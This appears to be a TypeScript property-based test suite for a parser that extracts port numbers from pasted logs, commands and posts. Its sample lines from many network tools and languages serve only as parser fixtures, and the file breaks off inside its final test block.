/**
 * The classes of pasted text the real-paste corpus showed (issue 13, section 2), each as a property
 * over any port and any surrounding log noise: every way of writing a port is read, every way of
 * writing a number that is not a port is not, and ports named without a number stand for theirs.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { findPorts, parseQuery, searchRules } from "../../src/core/index.js";
import { readPaste } from "../../src/core/paste.js";
import { readForwardRules } from "../../src/core/paste-records.js";
import { pasteServices } from "../../src/core/paste-services.js";
import { book } from "../helpers/book.js";
import { propertyRuns } from "../helpers/property-runs.js";

const port = fc.integer({ min: 1, max: 65535 });
/** Any letter case of a word: PowerShell parameters and labels come in every case. */
const anyCase = (word: string) =>
  fc
    .array(fc.boolean(), { minLength: word.length, maxLength: word.length })
    .map((upper) => [...word].map((c, i) => (upper[i] ? c.toUpperCase() : c.toLowerCase())).join(""));

/** Lines around a port in a paste, none of which names a port. */
const noise = fc.constantFrom(
  "2026-11-27T01:02:03.123Z WARN request failed",
  "Sep 02 19:45:13 web01 sshd[4123]: session closed",
  "Traceback (most recent call last):",
  "  at Foo.bar (app.js:120:15)",
  "RequestId: 3f2504e0-4f89-11d3-9a0c-0305e82c3301",
  "i-0abc1234def567890 in sg-0abc1234",
  "The operation timed out after 30000 ms",
  "",
);

/** Ways people's tools write a port a connection goes to. */
const WRITTEN: readonly ((p: number) => fc.Arbitrary<string>)[] = [
  (p) => anyCase("--port").map((l) => `xfreerdp /v:10.0.0.5 ${l} ${p}`),
  (p) => fc.constant(`mstsc /v:host /port:${p}`),
  (p) =>
    fc
      .constantFrom("-Port", "-LocalPort", "-RemotePort", "-PublicPort")
      .chain(anyCase)
      .map((l) => `Test-Thing ${l} ${p}`),
  (p) => fc.constant(`HTTPSConnectionPool(host='10.0.0.1', port=${p}): Max retries exceeded (connect timeout=30)`),
  (p) => fc.constant(`Port: ${p}`),
  (p) => fc.constant(`    DefaultPorts\n        HTTP = ${p}`),
  (p) => fc.constant(`<Data Name="DestPort">${p}</Data>`),
  (p) => fc.constant(`Destination Port:\t\t${p}`),
  (p) => fc.constant(`${p}/tcp closed unknown`),
  (p) => fc.constant(`SMB         10.1.2.3        ${p}    DC01             [*] Windows`),
  (p) => fc.constant(`winrm ${p} refused`),
  (p) => fc.constant(`the port should be ${p}`),
  (p) => fc.constant(`Failed to connect to example.com port ${p} after 343 ms`),
  (p) => fc.constant(`desktop-addr:10.0.0.10:${p}`),
  (p) =>
    fc
      .constantFrom("<IPv4>", "***", "(IP of the remote server)", "censored.example", "[REDACTED]")
      .map((h) => `connect ${h}:${p}`),
  (p) => fc.constant(`224.0.0.251:${p}`),
  (p) => fc.constant(`[::1]:${p} refused`),
  (p) => fc.constant(`sock.connect(('10.0.29.78', ${p}))`),
  (p) => fc.constant(`SERVER: 127.0.0.53#${p}(127.0.0.53)`),
  (p) => fc.constant(`A similar command worked with port TCP/${p}/RDP which uses TLS.`),
  (p) => fc.constant(`[DEBUG] xrdp_wm_log_msg: VNC connecting to 127.0.0.1 ${p}`),
  (p) => fc.constantFrom("$PRIVATE_IP", "$HOST_IP", "10.0.0.5").map((h) => `docker run -d -p ${h}:${p}:${p} consul`),
  (p) => fc.constant(`    socket_address:\n      address: 127.0.0.1\n      port_value: ${p}`),
  (p) => fc.constantFrom("masscan -iL input.txt", "nmap -sV 10.0.0.5").map((tool) => `${tool} -p${p} --open`),
  (p) =>
    fc
      .constantFrom("192.168.1.3", "*")
      .map((h) => `Default Web Site 1    Started    %SystemDrive%\\inetpub\\wwwroot  http ${h}:${p}:www.example.com`),
  (p) => fc.constant(`tcp6       0      0 ::1:${p}                :::*                    LISTEN      1174/xrdp-sesman`),
  (p) =>
    fc.constantFrom("74.121.ff.gg", "10.x.x.x").map((h) => `charon: 16[NET] sending packet: from ${h}[${p}] to 10.0.0.9[4500]`),
  (p) => fc.constant(`连不上本机的${p}和2380端口`),
  (p) => fc.constant(`WARNING: TCP connect to (10.0.0.1 : ${p}) failed`),
  (p) => fc.constant(`"FromPort": ${p},`),
  (p) => fc.constant(`docker run -d -p 127.0.0.1:${p}:${p} image`),
  (p) => fc.constant(`Server=tcp:db01.corp.example,${p};Database=app;`),
  (p) => fc.constant(`sqlcmd -S db01,${p} -Q "select 1"`),
  (p) => fc.constant(`netsh http add urlacl url=http://+:${p}/ user=Everyone`),
  (p) => fc.constant(`Failed to listen on prefix 'http://*:${p}/api/' because it conflicts`),
  (p) => fc.constant(`$ sudo netstat -tulpn | grep :${p}`),
  (p) => fc.constant(`C:\\> netstat -aon|findstr "${p}"`),
  (p) => fc.constant(`Then I used "lsof -i:${p}" and "ss -tunlp |grep ${p}", nothing in the output.`),
  (p) =>
    fc.constant(`kubectl port-forward tiller-deploy-65fcff7ff6-7kjbb -n kube-system ${p}\nerror: unable to upgrade connection`),
  (p) => fc.constant(`UDP link remote: [AF_INET]165.227.143.71:${p}`),
  (p) => fc.constant(`upsync consul.example.com:${p}/v1/kv/upstreams/app upsync_timeout=10000ms`),
  (p) => fc.constant(`I could curl http://<ipofwindows>:${p}/metrics and telnet <ipofwindows> ${p} successfully.`),
  (p) => fc.constant(`[+] StringBinding: MYMACHINE[${p}]`),
  (p) =>
    fc.constant(`2017-07-18 00:09:01 172.18.40.65 GET /healthcheck.html - ${p} - 172.18.1.11 ELB-HealthChecker/2.0 - 200 0 0 0`),
  (p) => fc.constant(`一直用的 ${p} 端口都没问题，今天就连接不上了`),
  (p) => fc.constant(`我有端口占用了${p},现在该怎么办呢?`),
  (p) => fc.constant(`_ldap._tcp.dc._msdcs.corp.example. 600 IN SRV 0 100 ${p} dc1.corp.example.`),
  (p) => fc.constant(`conn 10.0.0.5:52000-&gt;10.0.0.9:${p} (ESTABLISHED)`),
  (p) => fc.constant(`Successfully connected to redis 127.0.0.1:${p}@0`),
  (p) => fc.constant(`Traceback (most recent call last):\nI tried changing the port from ${p} to ${p}. no luck.`),
  (p) => fc.constant(`error: refused\nThe machine has some ports open such as ${p} etc.`),
  (p) => fc.constant(`error: refused\nallow tcp traffic on ${p} from the ALB to EC2`),
  (p) => fc.constant(`failed to check the health of member b6ef on http://***.69:${p}: i/o timeout`),
  (p) => fc.constant(`parsing [/etc/haproxy/haproxy.cfg:38] : 'bind :::${p}' :`),
  (p) => fc.constant(`\`\`\`\n.:${p} {\n        errors\n        health\n}`),
  (p) => fc.constant(`redis_exporter --web.listen-address=:${p} --redis.addr=`),
  (p) => fc.constant(`mysql -uroot -p123456 -h139.129.230.219 -P${p}`),
  (p) => fc.constant(`ssh -p${p} admin@10.0.0.5\nConnection refused`),
  (p) => fc.constant(`strongswan: 12[NET] sending packet: from 172.38.200.1[${p}] to 172.38.1.131[${p}] (464 bytes)`),
  (p) => fc.constant(`14[NET] sending packet: from <local>[${p}] to <remote>[${p}] (304 bytes)`),
  (p) => fc.constant(`229 Entering Extended Passive Mode (|||${p}|)`),
  (p) => fc.constant(`error: refused\nthey are accessible by 9200 and ${p} port.`),
  (p) =>
    fc.constant(
      `NAME      TYPE       CLUSTER-IP      EXTERNAL-IP   PORT(S)          AGE\nthe-bus   NodePort   10.43.196.219   <none>        ${p}:31112/TCP   2m51s`,
    ),
  (p) =>
    fc.constant(`zabbix_sender [39593]: DEBUG: send value error: cannot connect to [[127.0.0.1]:${p}]: [111] Connection refused`),
  (p) => fc.constant(`When connect ROS with port number e.g 1.2.3.4:${p}、1.2.3.4:${p}`),
  (p) => fc.constant(`My webserver architecture is: Haproxy:${p} => Varnish:6081 => Nginx:82`),
  (p) => fc.constant(`java.rmi.server.ExportException: Port already in use: ${p}; nested exception is:`),
  (p) => fc.constant(`error: use cloudflare before server. port ~${p}, http mode`),
  (p) => fc.constant(`[TCP Retransmission] [TCP Port numbers reused] 52055 → ${p} [SYN]`),
  (p) =>
    fc.constant(
      `Messenger.Walk(VersionCode.V2,\n    new IPEndPoint(IPAddress.Parse("192.168.1.2"), ${p}),\n    new OctetString(community))`,
    ),
  (p) => fc.constant(`client.addTransportAddress(new InetSocketTransportAddress(InetAddress.getByName("db01"), ${p}));`),
  (p) => fc.constant(`./ldap:#PORTS:${p}/tcp,3269/tcp`),
  (p) => fc.constant(`[smb]\ntype = tcp\nlocal_ip = 127.0.0.1\nlocal_port = 445\nremote_port = ${p}`),
];

/** Numbers the text itself says are something else. */
const NOT_PORTS: readonly ((n: number) => string)[] = [
  (n) => `HTTPSConnectionPool(host='h', port=5986): Read timed out. (read timeout=${n})`,
  (n) => `The remote server returned an error: (${n}) Bad Gateway.`,
  (n) => `Failed to connect to 10.0.0.1 port 5986 after ${n} ms: Connection refused`,
  (n) => `  File "winrm/transport.py", line ${n}, in send_message`,
  (n) => `System error ${n} has occurred.`,
  (n) => `DHCP Option ${n} present`,
  (n) => `curl: (${n}) Failed to connect to 10.0.0.1 port 5986`,
  (n) => `2026-11-27 10:00:00 EventID ${n} logged`,
  (n) => `NetworkDelayms = ${n}`,
  (n) => `Active code page: ${n}`,
  (n) => `At C:\\scripts\\audit.ps1:${n} char:${n}\n+ Get-WmiObject Win32_Processor`,
  (n) => `[default] -- ${n === 22 ? 23 : 22} => 2222 (adapter ${n})`,
  (n) => `ldap_connect_to_host: TCP dc01.corp.example:636\nldap_new_socket: ${n}\nldap_new_connection ${n} 1 0`,
  (n) => `[14:50:08:286] [7393:1302730496] [INFO][com.freerdp.core.gateway.rpc] - rpc_vers_minor: ${n}`,
  (n) => `C:\\> tasklist | findstr "${n}"\nsvchost.exe  ${n} Services  0  12,345 K`,
  (n) => `$ ps -ef | grep ${n}\nroot  ${n}  1  0 10:00 ?  00:00:01 /usr/sbin/sshd`,
  (n) => `An error occurred (TargetNotConnected) when calling the StartSession operation\nConnection closed by UNKNOWN port ${n}`,
  (n) => `160\t68.116922\tfe80::7f93:ac28:a40f:2b5c\tff02::fb\t5353\tMDNS\t${n}\tStandard query 0x0000`,
  (n) => `Sun Jun 10 12:04:02 ${1970 + (n % 130)} UDP link remote: [AF_INET]165.227.143.71:5986`,
  (n) => `PS C:\\> nmap -sTUV --top-ports ${n} 10.225.10.179\n22/tcp open ssh`,
  (n) =>
    `Connection to node -1 (localhost/127.0.0.1:9092) could not be established. (org.apache.kafka.clients.NetworkClient:${n})`,
  (n) => `{"level":"info","caller":"exporter/go.mod:${n}","msg":"Running as TSH"}`,
  (n) => `\n${100 + (n % 500)} Could not open data connection to port 45163: Cannot assign requested address`,
  (n) =>
    `Is this meant to denote both the source and destination port.\n${1 + (n % 9)}) Some ISPs perform blocking on inbound port 123`,
  (n) =>
    `2017-02-13 10:12:48 [INFO ](o.a.z.ClientCnxn                   :${n}) Opening socket connection to server 127.0.0.1/127.0.0.1:2181.`,
  (n) => `DEBUG 2017-06-14 08:23:03 CONNECTION FAILURE, host: localhost:11211 -> libmemcached/connect.cc:${n}`,
  (n) => `node:events:${n}\n      throw er; // Unhandled 'error' event\nError: connect ECONNREFUSED 127.0.0.1:6000`,
  (n) => `{"timestamp":"1496958794.02","source":"nats_to_syslog","log_level":${n},"data":{}} 10.0.0.1:4222`,
  (n) => `stat/sonoff/STATUS11 = {"Wifi":{"AP":1,"SSId":"myNetwork","RSSI":${n}}} 192.168.1.7:1883`,
  (n) => `[/settings/NRPE/server]\nport = 5666\nuse ssl = ${n % 10}`,
  (n) =>
    `A listener channel for protocol 'http' in worker process '${n}' serving application pool 'local.Redirect' reported a failure.`,
  (n) => `Kasm 端口从默认的 443 修改为 28888 后, 进度条卡在 ${n}%, 浏览器控制台显示 CORS 策略错误`,
  (n) =>
    `sqlcmd -S 10.0.0.5/SQLEXPRESS -U SA -P ${n}\nSqlcmd: Error: Microsoft ODBC Driver 13 for SQL Server : Login timeout expired.`,
  (n) => `mount.nfs: trying text-based options 'port=2049,vers=${n % 5},tcp'`,
  (n) => `2022-11-17 16:46:24.2351|WARN|IPBan|Login failure: 178.32.197.95, , RDP, ${n}, 14`,
  (n) => `start of authority record:\n      serial:1\n      refresh:${n}\n      retry:1200`,
  (n) => `docs/pages/desktop-access/troubleshooting.mdx:${n}\n Rdp(Io(Os { code: 54, kind: ConnectionReset }))`,
  (n) => `2022/02/02 22:16:17 plugin: [DEBUG] Error getting WinRM host: ${n} QEMU guest agent is not running`,
  (n) =>
    `当远程服务器是Windows 2003 Server时，进行RDP连接，出现下列问题：\n  ${1 + (n % 9)}. 远程服务器的RDP安全层设置为使用TLS时`,
  (n) => `**${1 + (n % 9)}.samba设置不能改端口，比如445端口用不了，445端口改成446。`,
  // an event id after its short label
  (n) => `Update to keep field names consistent for all rules which use EID ${n}:\n1. DestPort instead of DestinationPort`,
  // a count's short name glued to its value
  (n) => `2021-05-01 21:41:06.331 [cloudflare_front][INFO] load ip_list num:${n}, target num:${n}`,
  // a key's algorithm and size
  (n) => `# openssl req -x509 -nodes -days 365 -newkey rsa:${n} -keyout winrm.key\nServerName web01.example.com:5986`,
  // a table's header ending in a port's column, its first column a PID
  (n) => `PID    COMM         DADDR            DPORT\n${n}   curl         10.0.0.9         443`,
];

const found = (text: string) => findPorts(text).map((f) => f.port);

describe("pasted text: forms read since the eighth fresh set", () => {
  it("a published range, a range with its protocol and a named list each read every port", () => {
    expect(found("2026-11-27 docker run -d -p 8091-8094:8091-8094 -p 11210:11210 couchbase")).toEqual([
      8091, 8092, 8093, 8094, 11210,
    ]);
    expect(findPorts("  ports: 32000/tcp 2001-2003/tcp").map((f) => `${f.port}/${f.protocol}`)).toEqual([
      "32000/TCP",
      "2001/TCP",
      "2002/TCP",
      "2003/TCP",
    ]);
    expect(found("fail2ban-MAIL  tcp  --  anywhere  anywhere  multiport dports smtp,submission,pop3,imaps")).toEqual([
      25, 587, 110, 993,
    ]);
  });

  it("a log's bracketed tag, an interface's alias and a count glued to a CJK unit are no ports", () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 999 }), (n) => {
        expect(found(`2026-11-27 12:00:00 helpers.js [sm]:${n} > USER admin`)).toEqual([]);
        expect(found(`2026-11-27 12:00:00 0x0800 ens33:${n} up, eth0:${n} down`)).toEqual([]);
        for (const unit of ["天", "秒", "台", "초", "分钟"]) {
          const text = `最近生产环境中经常出现nodedown 问题。默认端口25672 报错。差不多运行${n}${unit}左右出现`;
          expect(found(text), unit).toEqual([25672]);
          expect(parseQuery(book, text).ports.map((r) => r.from)).not.toContain(n);
        }
      }),
      { numRuns: propertyRuns(100) },
    );
  });

  it("TLS named only to turn it off leaves WinRM on HTTP; a certificate puts it on HTTPS", () => {
    for (const off of ["ssl=False", "use_ssl: false", "-UseSSL:$false"])
      expect(found(`>>> wsman = WSMan('host', ${off}, auth='ntlm')\nWinRM error 500`), off).toEqual([5985]);
    expect(found("New-PSSession -CertificateThumbprint 0A1B fails: WinRM access denied, error 5")).toEqual([5986]);
  });

  it("netstat's and iptables' /etc/services names, and strongSwan's traffic selectors, stand for their ports", () => {
    expect(found("fail2ban-MAIL  tcp  --  anywhere  anywhere  multiport dports imap2,sip-tls")).toEqual([143, 5061]);
    expect(
      findPorts("charon: 04[CFG]  74.121.10.1/32[udp/l2f] === 10.0.0.0/24[tcp/443]").map((f) => `${f.port}/${f.protocol}`),
    ).toEqual(["443/TCP", "1701/UDP"]); // a port written before one named
  });

  it("an address's ports named in a parenthesis are read, each of them", () => {
    fc.assert(
      // (a client's ephemeral port would leave DNS its default 53)
      fc.property(fc.integer({ min: 1, max: 32767 }), fc.integer({ min: 1, max: 32767 }), (a, b) => {
        fc.pre(a !== b);
        const text = `==> Consul agent running!\n       Client Addr: 127.0.0.1 (HTTP: ${a}, HTTPS: -1, DNS: ${b})\n      Cluster Addr: ***.**.109.93 (LAN: ${b}, WAN: ${a})`;
        expect(found(text).sort((x, y) => x - y)).toEqual([a, b].sort((x, y) => x - y));
      }),
      { numRuns: propertyRuns(100) },
    );
  });

  it("a list goes on across Markdown's code marks; a unit ends it only when it follows the number", () => {
    expect(found("2026-11-27 dind listens on port `2375` or `2376`, error")).toEqual([2375, 2376]);
    expect(found("2026-11-27 TCP: add ports 88, 389, 464 & 3268; <s>remove</s>")).toEqual([88, 389, 464, 3268]);
    expect(found("2026-11-27 12:00:00 VMware tools running on the guest in 67 seconds")).toEqual([]);
  });

  it("an IIS row quoted as code is read as its row", () => {
    const row = "`2016-12-10 03:47:14 76.12.55.140 GET /xyz - 8080 - 73.188.236.249 Mozilla/5.0 502 3 64 343 `";
    expect(found(`And a corresponding 502 error response in IIS log:\n${row}`)).toEqual([8080]);
  });

  it("error numbers with their messages, JSON keys and a struct's fields are no ports", () => {
    fc.assert(
      fc.property(fc.integer({ min: 100, max: 65535 }), (n) => {
        const texts = [
          `2003 - Can't connect to MySQL server on 'db' (${n} "Unknown error")`,
          `${n} - Can't connect to MySQL server on 'db'`,
          `socket.error: (${n}, 'Connection refused')`,
          `{\n   "${n}":"allow 22"\n}`,
          `2018-09-27 08:21:53 INFO (trace_writer.go:39) - config: {MaxSpansPerPayload:${n} FlushPeriod:5s}`,
        ];
        for (const text of texts) {
          expect(
            readPaste(text).found.map((f) => f.port),
            text,
          ).not.toContain(n);
          expect(
            parseQuery(book, text).ports.some((r) => r.from <= n && n <= r.to),
            text,
          ).toBe(false);
        }
      }),
      { numRuns: propertyRuns(100) },
    );
  });

  it("forms read since the ninth fresh set: BSD netstat's names, sockstat, TCP a/UDP b, listen(), states, glued table cells", () => {
    expect(found("tcp          0      0  localhost.smtp         *.*                    LISTEN")).toEqual([25]);
    expect(found("root  ntpd 4933 20  udp4  172.16.48.1:123    *:*\nroot  ntpd 4933 23  udp4  127.0.0.1:123      *:*")).toEqual([
      123,
    ]);
    expect(
      findPorts("2026-11-27 Firewall rules or closed TCP 1433/UDP 1434 ports drop packets").map((f) => `${f.port}/${f.protocol}`),
    ).toEqual(["1433/TCP", "1434/UDP"]);
    expect(found("2026-11-27 error in Server/lib/Web/main.js: Server.listen(50000);")).toEqual([50000]);
    // a socket's listen() takes a backlog
    expect(found("2026-11-27 error: sock = socket.socket()\nsock.listen(5) failed")).toEqual([]);
    expect(found("2026-11-27 nmap shows only 80. In actual case, 102,502 and 161 are open too")).toEqual([102, 502, 161]);
    expect(
      found("PortProtocol / ServiceRole\n3268Global Catalog (TCP)Forest-wide searches\n53DNS (TCP/UDP)Name resolution"),
    ).toEqual([3268, 53]);
    expect(found("2026-11-27 12:00:00 telnet pegasus 1704\ntelnet: Unable to connect to remote host")).toEqual([1704]);
    expect(found("2026-11-27 80번 포트 방화벽 푸는것")).toEqual([80]);
  });

  it("an issue's number, a diff's hunk header, an SMTP banner after a port label, an RFC and a severity are no ports", () => {
    fc.assert(
      fc.property(fc.integer({ min: 10, max: 999 }), (n) => {
        fc.pre(n !== 547); // the diff's own port
        const texts = [
          `Fix failing when changing TCP port to the default 1433\n\nResolves #${n}`,
          `package/network/config/firewall/files/firewall.config\n@@ -${n},6 +${n + 1},7 @@ config rule\n+\toption src_port\t\t547`,
          `TCP port 25 (smtp service): LISTENING\nThe following data is returned from the port:\n${200 + (n % 100)} MyMailServer.example.com Microsoft ESMTP MAIL Service`,
          `Kerberos (RFC ${n + 4000}, TCP port 88) for authentication`,
          `xecute sql error: (20003, 'DB-Lib error message 20003, severity ${n % 20}:\nAdaptive Server connection timed out')`,
        ];
        for (const text of texts) {
          const number = text.includes("RFC")
            ? n + 4000
            : text.includes("ESMTP")
              ? 200 + (n % 100)
              : text.includes("severity")
                ? n % 20
                : n;
          expect(
            readPaste(text).found.map((f) => f.port),
            text,
          ).not.toContain(number);
        }
      }),
      { numRuns: propertyRuns(100) },
    );
  });

  it("a text in another script whose only clue is a service answers for the service's ports", () => {
    expect(searchRules(book, '“共享失败”\n"SMB 端口被禁用，请检查防火墙策略。"').found.map((f) => f.port)).toEqual([445]);
    expect(searchRules(book, "最近ntp同步失败").found.map((f) => f.port)).toEqual([123]);
    // an English question stays a question
    expect(searchRules(book, "what does rdp need").found).toEqual([]);
  });

  it("sentences written to others (a post, a reply) whose only clue is a service answer for the service's ports", () => {
    expect(
      searchRules(book, "yes, it was the firewall. i just had to add the rdp port again, it works now").found.map((f) => f.port),
    ).toEqual([3389]);
    expect(
      searchRules(book, "We moved the file server last week.\nSMB shares no longer open from the jump host").found.map(
        (f) => f.port,
      ),
    ).toEqual([445]);
    // one sentence typed to amiport stays a question, and prose naming no service finds no port
    expect(searchRules(book, "what does rdp need on 2019?").found).toEqual([]);
    expect(searchRules(book, "Thanks for sharing the info! It helped a lot.").found).toEqual([]);
  });

  it("NAT forwarding rules are found from their fixed part: the same rules as the one pattern that spells out their form", () => {
    // the form, tried at every character (what readForwardRules once ran, slow on long text): the oracle
    const form =
      /[\w-]{1,40},(tcp|udp),[0-9.]{0,15},(\d{1,5}),[0-9.]{0,15},(\d{1,5})\b|hostfwd=(tcp|udp):[0-9.]{0,15}:(\d{1,5})-[0-9.]{0,15}:(\d{1,5})\b/gi;
    const byForm = (text: string) =>
      [...text.matchAll(form)].flatMap((m) => {
        const [protocol, host, guest] = m[1] === undefined ? [m[4], m[5], m[6]] : [m[1], m[2], m[3]];
        const ports = [Number(host), Number(guest)];
        return ports.every((p) => p >= 1 && p <= 65535)
          ? [
              {
                hostPort: ports[0],
                guestPort: ports[1],
                protocol: protocol?.toLowerCase() === "udp" ? "UDP" : "TCP",
                to: (m.index ?? 0) + m[0].length,
              },
            ]
          : [];
      });
    const pieces = [
      ",",
      "tcp",
      "UDP",
      ",tcp,",
      ",udp,",
      "hostfwd=tcp:",
      "hostfwd=",
      ":",
      ".",
      "-",
      "0",
      "3091",
      "55985",
      "a",
      " ",
      ",,",
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (parts) => {
        const text = parts.join("");
        expect(readForwardRules(text).map(({ from: _, ...rule }) => rule)).toEqual(byForm(text).slice(0, 50));
      }),
      { numRuns: propertyRuns(2000) },
    );
    // a failed rule's last comma begins the next one's fixed part
    expect(readForwardRules("x,tcp,udp,,3091,,55985").map((r) => r.protocol)).toEqual(["UDP"]);
    // a name longer than 40 characters starts 40 characters before its comma, as the form's does
    expect(readForwardRules(`${"n".repeat(60)},tcp,,3091,,55985`)[0]?.from).toBe(20);
  });

  it("forms read since the tenth fresh set: NAT rules, socket calls, SQL Server's listening line, rule lists, firewalld services, joined W3C logs", () => {
    expect(
      new Set(found('Executing VBoxManage: []string{"modifyvm", "vm", "--natpf1", "packercomm,tcp,127.0.0.1,3091,,55985"}')),
    ).toEqual(new Set([3091, 55985]));
    expect(found("2015/07/13 qemu -netdev user,id=user.0,hostfwd=tcp::3499-:5985 -vnc 0.0.0.0:87")).toEqual([3499, 5985]);
    expect(found("Traceback (most recent call last):\n    sock.connect((sys.argv[1],  445))\nsocket.timeout: timed out")).toEqual(
      [445],
    );
    expect(found("2017-04-18 19:06:50.42 spid16s     Server is listening on [ 0.0.0.0 <ipv4> 1433].")).toEqual([1433]);
    expect(found("aws_security_group \"sg\" do\n  inbound_rules '0.0.0.0/0' => [22, 443, 80, 3389]\nend")).toEqual([
      22, 443, 80, 3389,
    ]);
    expect(found("$ firewall-cmd --list-all\nhome (active)\n  services: cockpit dhcpv6-client ssh\n  ports: 7504/tcp")).toEqual(
      expect.arrayContaining([9090, 546, 22, 7504]),
    );
    const joined =
      "#Version: 1.5 #Fields: date time action protocol src-ip dst-ip src-port dst-port size 2005-11-20 11:43:41 DROP TCP 192.168.0.7 192.168.0.6 1172 3389 48 2005-11-20 11:44:25 OPEN UDP 192.168.0.6 192.168.0.1 1625 53 -";
    expect(findPorts(joined).map((f) => `${f.port}/${f.protocol}`)).toEqual(["3389/TCP", "53/UDP"]);
    expect(found("I have hosts that have port 445 filtered and have only 135 and 139 open.")).toEqual([445, 135, 139]);
    expect(found("2026-11-27 secured ldaps:// does not work: Can't contact LDAP server")).toEqual([636]);
  });

  it("a frame's length, a comparison, a program's id, a display, a word size and a log record after a port are read as what they are", () => {
    fc.assert(
      fc.property(fc.integer({ min: 40, max: 1500 }), (n) => {
        const texts = [
          `    1 0.000000000 172.28.120.110 → 10.2.0.142   TCP ${n} 55208 → 445 [SYN] Seq=0`,
          `2026-11-27 only root can listen on ports <${n} so use a high port`,
          `(remmina:${n}): libappindicator-WARNING **: Unable to get the session bus`,
          `qemu-system-x86_64 -m 4096M -vnc 0.0.0.0:${n % 100}`,
          `Microsoft SQL Server 2017 (RTM) (X64) Developer Edition (${n % 2 === 0 ? 64 : 32}-bit) on Windows Server 2016`,
          ` ${n % 200},udp,123,<ip_address>\n100,udp,123,<ip_address>`,
        ];
        for (const text of texts) {
          const number = text.includes("-vnc")
            ? n % 100
            : text.includes("-bit")
              ? n % 2 === 0
                ? 64
                : 32
              : text.includes(",udp,")
                ? n % 200
                : n;
          fc.pre(number !== 123 && number !== 445);
          expect(
            readPaste(text).found.map((f) => f.port),
            text,
          ).not.toContain(number);
        }
        const log = `07/Sep/2018 10:10:08 [HTTPserver.cpp:1117] HTTP server listening on ${n + 2000}\n07/Sep/2018 10:10:08 [main.cpp:382] Working directory: /var/tmp/ntopng with a long enough line`;
        expect(found(log)).toContain(n + 2000);
      }),
      { numRuns: propertyRuns(100) },
    );
  });

  it("forms read since set 9d was read: Tcl's listen, port tables in Markdown, spaced placeholders, two ports after a slash", () => {
    expect(found(".tcl listen 2222 all\n.tcl listen 127.0.0.1 7777 script foo\nTcl error: missing flag")).toEqual([2222, 7777]);
    expect(
      found(
        "```diff\n | 3023 | Proxy | SSH port clients connect to. |\n | 3025 | Auth | SSH port used by the Auth Service. |\n```",
      ),
    ).toEqual([3023, 3025]);
    expect(found("Shows: The connection to the server <$ MASTER>: 6443 was refused-did you specify the right host")).toEqual([
      6443,
    ]);
    expect(found('ports:\n    - "<YOU-EXTERNAL-IP>:53:53/udp"\n    - "10000:10000/tcp"')).toEqual([53, 10000]);
    expect(found("2026-11-27 unable to get it working when testing demo.pysnmp.com:161/162")).toEqual([161, 162]);
    expect(found("[2016-07-17 16:45:45] ****.140:8380 timed out")).toEqual([8380]);
    expect(found("2026-11-27 12:00:01 查询127.0.0.1:5300为pass")).toEqual([5300]);
    // a named service's port in parentheses is its port; another number there is not
    const catalog = found(
      "2026-11-27 LDAP clients have to specify the global catalog port in the configuration (3268), or follow (12)",
    );
    expect(catalog).toContain(3268);
    expect(catalog).not.toContain(12);
    // a netstat LISTEN column is no Tcl listen command
    const lsof =
      "systemd-r 165 systemd-resolve 12u IPv4 14824 0t0 TCP *:5355 (LISTEN)\nsystemd-r 165 systemd-resolve 13u IPv6 14825 0t0 UDP *:5355";
    expect(new Set(found(lsof))).toEqual(new Set([5355]));
  });

  it("NetBIOS's name service, SNMP traps and bold labels", () => {
    expect(found("2026-11-27 nmblookup -A 10.0.0.64 failed")).toEqual([137]);
    expect(found("2026-11-27 snmptrapd: no traps received")).toEqual([162]);
    expect(found("**Phase:** 12 — Remaining Agent Capabilities\nSend NetBIOS Name Query (UDP 137).")).toEqual([137]);
  });

  it("KMS and NRPE named alone answer for their ports", () => {
    expect(
      found(
        "Error: 0xC004F074 The Software Licensing Service reported that the computer could not be activated. No Key Management Service (KMS) could be contacted.",
      ),
    ).toEqual([1688]);
    expect(found("CHECK_NRPE: Error - Could not complete SSL handshake")).toEqual([5666]);
  });

  it("NetBIOS, FTP and Remote Desktop in other languages name their ports", () => {
    expect(found("2026-11-27 NetBIOS over Tcpip. . . . . . . . : Disabled")).toEqual([139]);
    expect(found("2026-11-27 12:00:00 vsftpd: connect: No route to host")).toEqual([21]);
    for (const words of ["远程桌面连接失败", "リモートデスクトップ接続エラー", "удаленный рабочий стол", "원격 데스크톱 오류"])
      expect(found(`0xc07 ${words}\nerror 0x4`), words).toEqual([3389]);
  });
});

describe("pasted text: any input", () => {
  it("is read without an error, whatever its characters", () => {
    const pieces = fc.constantFrom(
      ":",
      " : ",
      ")",
      "(",
      "\n",
      "\t",
      ",",
      "'",
      '"',
      ">",
      "->",
      "[",
      "]",
      "\\\\",
      "port",
      "tcp",
      "10.0.0.5",
      "5985",
      "-p",
      "#",
      "=",
      "smb",
      "x",
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ unit: "binary", maxLength: 6 })), { maxLength: 30 }), (parts) => {
        const text = parts.join("");
        expect(() => readPaste(text)).not.toThrow();
        expect(() => parseQuery(book, text)).not.toThrow();
      }),
      { numRuns: propertyRuns(2000) },
    );
  });
});

describe("pasted text: every form of a written port is read", () => {
  it("reads the port of each form, among any log noise", () => {
    fc.assert(
      fc.property(
        port,
        fc.integer({ min: 0, max: WRITTEN.length - 1 }),
        fc.array(noise, { maxLength: 4 }),
        fc.array(noise, { maxLength: 4 }),
        fc.context(),
        (p, form, before, after, ctx) => {
          // `Port: 5986` alone is a `Key: value` record only beside a second one
          const line = fc.sample((WRITTEN[form] as (p: number) => fc.Arbitrary<string>)(p), { numRuns: 1, seed: p })[0] as string;
          const text = ["2026-11-27 alarm", ...before, line, ...after].join("\n");
          ctx.log(text);
          expect(parseQuery(book, text).pasted).toBe(true);
          expect(found(text)).toContain(p);
        },
      ),
      { numRuns: propertyRuns(400) },
    );
  });

  it("reads an address and port quoted inside a quoted string (a JSON log's message, Go's %q) as it reads them quoted once", () => {
    fc.assert(
      fc.property(
        port,
        fc.ipV4(),
        fc.constantFrom(
          (q: string) => `{"level":"error","msg":"dial tcp ${q}: connection refused"}`,
          (q: string) => `time=2026-11-27T01:00:03Z level=warn msg="connection added, local address ${q}"`,
          (q: string) => `{"log":"listen on ${q} failed\\n","stream":"stderr"}`,
        ),
        (p, ip, line) => {
          const once = line(`"${ip}:${p}"`);
          const escaped = line(`\\"${ip}:${p}\\"`);
          expect(found(escaped)).toEqual(found(once));
          expect(found(escaped)).toContain(p);
        },
      ),
      { numRuns: propertyRuns(300) },
    );
  });

